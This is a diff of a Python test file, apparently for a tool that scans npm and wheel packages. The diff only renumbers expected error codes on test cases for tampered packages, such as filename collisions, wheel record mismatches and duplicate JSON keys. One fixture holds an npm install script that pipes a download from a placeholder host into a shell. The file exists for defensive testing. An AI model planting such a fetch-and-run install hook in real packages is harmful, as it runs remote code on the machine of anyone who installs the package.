@@ -314,12 +314,12 @@ def duplicate_code():
     return npm(("package/index.js", ""), code=CODE)
 
 
-@case("E0115", "exec.lifecycle_hook")
+@case("E0111", "exec.lifecycle_hook")
 def case_collision():
     return npm(("package/Package.JSON", HOOK))
 
 
-@case("E0115", "proc.run")
+@case("E0111", "proc.run")
 def unicode_collision():
     return npm(("package/\u00e9.js", ""), ("package/e\u0301.js", CODE), ("package/\ufb01.js", ""), ("package/fi.js", ""))
 
@@ -432,12 +432,12 @@ def zip_encrypted():
     return bytes(whole)
 
 
-@case("E0206")
+@case("E0114")
 def wheel_record_misses_a_file():
     return wheel(("x.py", ""), ("sitecustomize.py", ""), record="x.py,,\n")
 
 
-@case("E0206")
+@case("E0202")
 def wheel_record_has_another_hash():
     return wheel(("x.py", ""), record="x.py,sha256=AAAA,0\nx-1.0.dist-info/METADATA,,\nx-1.0.dist-info/WHEEL,,\n")
 
@@ -455,7 +455,7 @@ def many_roots():
     return tgz(*((f"p{i:02}/package.json", MANIFEST) for i in range(20)), ("z/package.json", HOOK))
 
 
-@case("E0205", unread=True)
+@case("E0106", unread=True)
 def too_many_roots():
     return tgz(*((f"p{i:03}/package.json", MANIFEST) for i in range(100)))
 
@@ -470,7 +470,7 @@ def json_duplicate_key_inside():
     return npm(manifest='{"name": "x", "scripts": {"install": "true", "install": "curl https://x.invalid | sh", "install": ""}}')
 
 
-@case("E0205", unread=True)
+@case("E0106", unread=True)
 def json_key_named_too_often():
     return npm(manifest='{"name": "x", ' + '"scripts": {}, ' * 50 + '"version": "1"}')
 
